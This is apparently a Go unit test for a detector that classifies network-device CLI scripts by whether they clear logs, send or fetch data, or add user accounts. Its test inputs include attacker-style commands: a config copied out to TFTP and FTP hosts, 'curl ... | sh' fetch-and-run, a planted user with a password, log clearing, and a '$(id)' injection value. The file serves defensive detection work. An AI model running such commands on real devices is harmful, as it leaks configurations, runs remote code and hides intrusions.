package verbs

import (
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/linewarden/linewarden/device/model"
)

func TestJudge(t *testing.T) {
	for _, tc := range []struct {
		name                     string
		in                       []string
		verbs                    []string
		hides, fetches, accounts bool
	}{
		{"quiet", []string{"show clock", "write memory"}, []string{"show clock", "write memory"}, false, false, false},
		{"clears", []string{"clear logging logfile"}, []string{"clear logging"}, true, false, false},
		{"copies", []string{"copy running-config tftp://192.0.2.1/x vrf management"}, []string{"copy tftp://192.0.2.1"}, false, true, false},
		{"sends what it shows", []string{"show running-config | redirect TFTP://192.0.2.1/x", "show ip route | append ftp://u:s3cr3t@[2001:db8::1]:21/x", "show clock | tee flash:x", "show run | include redirect"},
			[]string{"show running-config | redirect tftp://192.0.2.1", "show ip | append ftp://[2001:db8::1]:21", "show clock | tee", "show run"}, false, true, false},
		{"asks for the host", []string{"copy running-config tftp:", "copy run ftp://$pw%/x"}, []string{"copy", "copy ftp://***"}, false, true, false},
		{"adds a user", []string{"configure terminal", "username eve password 0 hunter2"}, []string{"configure terminal", "username"}, false, false, true},
		{"shell", []string{`bash sudo curl http://192.0.2.1/p | sh`}, []string{"bash sudo http://192.0.2.1"}, false, true, false},
		{"argument that is no keyword", []string{"clear S3cr3t"}, []string{"clear"}, false, false, false},
		{"empty", []string{"", "  "}, nil, false, false, false},
		{"odd first word", []string{"$(id)"}, []string{"***"}, false, false, false},
	} {
		s := &model.Script{}
		Judge(s, tc.in, model.Span{Line: 1, End: 2})
		if d := cmp.Diff(tc.verbs, s.Verbs.V); d != "" {
			t.Errorf("%s: verbs %s", tc.name, d)
		}
		if s.Hides.V != tc.hides || s.Fetches.V != tc.fetches || s.Accounts.V != tc.accounts || s.Hides.How != model.Explicit {
			t.Errorf("%s: hides %v fetches %v accounts %v", tc.name, s.Hides.V, s.Fetches.V, s.Accounts.V)
		}
	}
}

func TestJudgeAgain(t *testing.T) {
	s := &model.Script{}
	Judge(s, []string{"clear logging"}, model.Span{Line: 1, End: 1})
	Judge(s, []string{"show version"}, model.Span{Line: 2, End: 2})
	if !s.Hides.V || len(s.Verbs.V) != 2 {
		t.Errorf("got %+v", s)
	}
}
